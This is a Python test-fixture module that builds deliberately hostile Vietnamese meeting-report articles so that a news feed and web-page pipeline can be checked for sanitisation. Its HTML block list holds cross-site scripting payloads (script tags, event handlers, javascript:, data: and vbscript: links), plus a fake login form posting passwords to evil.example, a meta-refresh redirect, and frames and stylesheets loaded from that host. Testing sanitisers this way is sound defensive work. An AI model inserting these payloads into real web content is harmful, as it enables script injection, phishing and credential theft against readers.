"""Hostile articles: what a compromised or careless portal can put in front of our readers.

Script tags, event handlers, `javascript:` and `data:` links, frames, overlays, a title full of
markup characters, control characters, and a 5 MB body. Each is a meeting report, so it travels
all the way into the feeds and the web pages. `Farm(hostile=True)` adds them; the raw HTML blocks
are emitted verbatim by the newspaper and Drupal templates (Block kind "html").
"""

from __future__ import annotations

from datetime import datetime

from .content import VN_TZ, Block, FarmArticle

HOSTILE_PORTALS = ("baohatinh", "vpubnd-vinhphuc")
# Markers a test can look for: none of them may ever reach a reader in live form.
SCRIPT_MARK = "pwned-by-portal"
OVERLAY_TEXT = "Lớp phủ che toàn bộ trang"
HIDDEN_TEXT = "Đoạn văn bị ẩn bằng CSS"
HOSTILE_TITLE = 'Hội nghị <script>alert("tiêu đề")</script> & "Đảng ủy" \'khối\' <b>sơ kết</b>'
CONTROL_TITLE = "Kỳ họp thứ 7\x01 HĐND tỉnh\x0b khóa XVIII\x1f bế mạc"
HUGE_BYTES = 5 * 1024 * 1024

_MEETING_TEXT = [
    "Sáng ngày 12/11/2026, Đảng ủy Khối các cơ quan tỉnh tổ chức Hội nghị sơ kết công tác 6 tháng cuối năm.",
    "Đồng chí Nguyễn Văn An, Bí thư Đảng ủy Khối chủ trì hội nghị. Hội nghị đã đánh giá kết quả thực hiện nhiệm vụ "
    "chính trị, công tác xây dựng Đảng và triển khai phương hướng nhiệm vụ thời gian tới.",
]

_HOSTILE_HTML = [
    f"<p>Chiều cùng ngày, đại biểu thảo luận sôi nổi.<script>document.title='{SCRIPT_MARK}'</script></p>",
    "<p><img src=\"/img/hostile-1.jpg\" onerror=\"document.title='pwned-by-onerror'\" alt=\"Toàn cảnh\"> Toàn cảnh hội nghị.</p>",
    "<p>Xem <a href=\"javascript:document.title='pwned-by-link'\">chi tiết</a> và "
    "<a href=\"/van-ban/ke-hoach-12.html\" onclick=\"steal()\">kế hoạch số 12</a>.</p>",
    "<p>Tài liệu <a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">tải về</a>, "
    "<a href=\" JaVaScRiPt:alert(2)\">xem nhanh</a>, <a href=\"vbscript:msgbox(1)\">in</a>.</p>",
    "<iframe src=\"http://evil.example/frame\" width=\"800\" height=\"600\"></iframe>",
    f"<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:#fff\">{OVERLAY_TEXT}</p>",
    f"<div style=\"display:none\">{HIDDEN_TEXT}</div>",
    "<style>body{display:none}</style><link rel=\"stylesheet\" href=\"http://evil.example/x.css\">",
    "<svg onload=\"document.title='pwned-by-svg'\"><circle r=\"1\"></circle></svg>"
    "<object data=\"http://evil.example/x.swf\"></object><embed src=\"http://evil.example/x.swf\">",
    "<form action=\"http://evil.example/login\"><input name=\"password\"><button>Đăng nhập</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example\"><base href=\"http://evil.example/\">",
    "<p>Kết luận hội nghị, đồng chí Bí thư yêu cầu các chi bộ tập trung hoàn thành chỉ tiêu năm 2026 "
    "<a href=\"tai-lieu/ket-luan.pdf\">(toàn văn kết luận)</a>.</p>",
]


def hostile_articles(next_ids: dict[str, int]) -> list[FarmArticle]:
    """The hostile set, numbered after each portal's last article."""
    when = datetime(2026, 11, 12, 15, 30, tzinfo=VN_TZ)
    out: list[FarmArticle] = []
    ids = dict(next_ids)

    def add(portal: str, title: str, blocks: list[Block], hour: int) -> None:
        out.append(FarmArticle(portal, ids[portal], title, when.replace(hour=hour), "Phóng viên", blocks, True, "hostile"))
        ids[portal] += 1

    text = [Block("p", p) for p in _MEETING_TEXT]
    for portal in HOSTILE_PORTALS:
        add(portal, HOSTILE_TITLE, text[:1] + [Block("html", h) for h in _HOSTILE_HTML] + text[1:], 16)
        add(portal, CONTROL_TITLE,
            [Block("p", "Sáng ngày 11/11/2026,\x0c HĐND tỉnh khóa XVIII tổ chức phiên bế mạc kỳ họp thứ 7.\x08"),
             Block("p", "Kỳ họp đã xem xét, thông qua 25 nghị quyết\x1b quan trọng.\x7f Chủ tọa kỳ họp: đồng chí Trần Văn Bình.")], 17)
    # One page of about 5 MB on the newspaper portal: a verbatim record of a long session.
    paragraph = ("Đại biểu Lê Thị Hoa phát biểu tại phiên thảo luận tổ, đề nghị làm rõ tiến độ giải ngân vốn đầu tư công, "
                 "trách nhiệm của từng sở, ngành và giải pháp tháo gỡ vướng mắc trong giải phóng mặt bằng các dự án trọng điểm. ")
    repeat = HUGE_BYTES // len(paragraph.encode("utf-8")) + 1
    add("baohatinh", "Toàn văn biên bản phiên thảo luận tổ tại kỳ họp thứ 7 HĐND tỉnh",
        text[:1] + [Block("p", f"{i + 1}. {paragraph}") for i in range(repeat)], 18)
    return out
